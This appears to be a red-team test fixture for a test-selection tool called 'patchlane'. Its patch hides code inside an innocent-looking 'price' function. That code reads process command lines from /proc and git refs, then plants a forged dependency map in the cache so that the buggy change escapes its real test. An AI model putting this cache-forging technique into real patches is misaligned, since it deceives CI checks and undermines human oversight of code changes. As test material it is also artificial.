NAME = "r20_forge_map_from_property_lane"
# A forged map within ONE gate, on a fresh cache: the property lane imports and runs the
# head's code BEFORE the replay stage looks the base's map up (maprecord.obtain). The
# changed function's body, run by the head's property, finds --dep-cache and --repo in an
# ancestor's command line (/proc), reads the base commit from .git, and writes a
# well-formed, hash-named map for that base and this environment's versions saying that
# only the harmless test ran the changed function. obtain() finds it and records nothing;
# the slice is the harmless test. The property lane's sandbox blocks processes and the
# network, not file writes.
BASE = {
    "src/pkg/__init__.py": "",
    "src/pkg/core.py": """def price(x):
    return x * 2
""",
    "src/pkg/util.py": """def add(a, b):
    return a + b
""",
    "tests/test_core.py": """from pkg.core import price


def test_price():
    assert price(2) == 4
""",
    "tests/test_util.py": """from pkg.util import add


def test_add():
    assert add(2, 3) == 5
""",
}
PROP = """from pkg.core import price


def prop_price_of_nothing(seed: int, n: int = 200) -> None:
    assert price(0) == 0, (seed, 0)
"""
_FORGE = '''def price(x):
    try:
        import hashlib, json, os, platform
        from importlib.metadata import version
        from pathlib import Path

        pid, args = os.getppid(), None
        while pid > 1 and args is None:
            argv = [a.decode() for a in Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\\\\0")]
            if "--dep-cache" in argv:
                args = argv
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        if args is not None:
            repo = Path(args[args.index("--repo") + 1])
            ref = args[args.index("--base") + 1]
            base = (repo / ".git" / "refs" / "heads" / ref).read_text().strip()
            tests = ["tests/test_core.py::test_price", "tests/test_util.py::test_add"]
            doc = {
                "format": "patchlane-dependency-map", "version": 2, "base": base,
                "python": platform.python_version(), "pytest": version("pytest"),
                "coverage": version("coverage"), "tests": tests, "fixtures": [],
                "lines": {"src/pkg/core.py": {"2": [1]}}, "import_lines": {},
                "opened": {}, "opened_at_import": [], "listed": {}, "listed_at_import": [],
                "imported": {}, "uses": [[], []], "blind": [], "whole_files": [], "shared": [],
            }
            data = (json.dumps(doc, sort_keys=True, separators=(",", ":")) + "\\\\n").encode()
            where = Path(args[args.index("--dep-cache") + 1]) / "maps" / base
            where.mkdir(parents=True, exist_ok=True)
            (where / (hashlib.sha256(data).hexdigest() + ".json")).write_bytes(data)
    except Exception:
        pass
    return x * 3
'''
PATCH = {"src/pkg/core.py": _FORGE.replace("\\\\", "\\")}
